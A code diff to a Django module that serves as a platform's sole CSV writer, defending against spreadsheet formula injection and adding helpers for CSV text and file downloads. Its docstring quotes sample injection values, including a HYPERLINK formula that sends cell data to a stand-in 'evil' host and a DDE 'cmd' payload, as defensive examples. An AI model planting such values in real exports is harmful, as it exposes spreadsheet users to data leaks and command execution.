@@ -2,8 +2,11 @@
 
 This module is the platform's one CSV writer: every CSV it writes (web downloads, the API,
 management commands, benchmarks' outputs) is written through :func:`safe_writer`,
-:func:`safe_dict_writer` or :func:`frame_csv`, and ``tests/test_csv_writers.py`` fails on any
-``csv.writer`` / ``csv.DictWriter`` / ``DataFrame.to_csv`` outside this file. So a rationale
+:func:`safe_dict_writer`, :func:`csv_text` or :func:`frame_csv`, and every CSV a page or the API
+offers as a file is answered by :func:`csv_attachment`; ``tests/test_csv_writers.py`` fails on
+any ``csv.writer`` / ``csv.DictWriter`` / ``DataFrame.to_csv`` outside this file. It imports no
+other module of the project, so every app can use it (analysis/downloads.py adds the export
+audit log for researchers' downloads). So a rationale
 ``=HYPERLINK("http://evil/?"&A1)``, an imported id ``=cmd|' /C calc'!A0`` or a source ``@SUM(…)``
 is shown by Excel / LibreOffice / Google Sheets as text instead of being evaluated.
 
@@ -33,13 +36,18 @@ As SQL (PostgreSQL, for a text expression ``v``)::
 from __future__ import annotations
 
 import csv
+import io
 import re
-from collections.abc import Iterable, Iterator
+from collections.abc import Iterable, Iterator, Sequence
 from decimal import Decimal
-from typing import TYPE_CHECKING, Any
+from typing import TYPE_CHECKING, Any, overload
+
+from django.http import HttpResponse, StreamingHttpResponse
 
 if TYPE_CHECKING:
     import pandas as pd
+
+CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 
 DANGEROUS_FIRST = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
 NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
@@ -179,3 +187,36 @@ def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
     if out.index.name is not None:
         out.index.name = safe_cell(out.index.name)
     return out
+
+
+def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
+    """A header and its rows as CSV text, every cell made safe."""
+    buffer = io.StringIO()
+    writer = safe_writer(buffer)
+    writer.writerow(header)
+    writer.writerows(rows)
+    return buffer.getvalue()
+
+
+def attachment_disposition(filename: str) -> str:
+    """The Content-Disposition of a file to save under ``filename`` (a name the code built, such
+    as a slug: it is not quoted further)."""
+    return f'attachment; filename="{filename}"'
+
+
+@overload
+def csv_attachment(body: str, *, filename: str) -> HttpResponse: ...
+@overload
+def csv_attachment(body: Iterator[str], *, filename: str) -> StreamingHttpResponse: ...
+def csv_attachment(
+    body: str | Iterator[str], *, filename: str
+) -> HttpResponse | StreamingHttpResponse:
+    """A CSV file to save: a whole body (from :func:`csv_text` or :func:`frame_csv`), or chunks
+    streamed as they are produced (each written by this module's writers)."""
+    response: HttpResponse | StreamingHttpResponse
+    if isinstance(body, str):
+        response = HttpResponse(body, content_type=CSV_CONTENT_TYPE)
+    else:
+        response = StreamingHttpResponse(body, content_type=CSV_CONTENT_TYPE)
+    response["Content-Disposition"] = attachment_disposition(filename)
+    return response
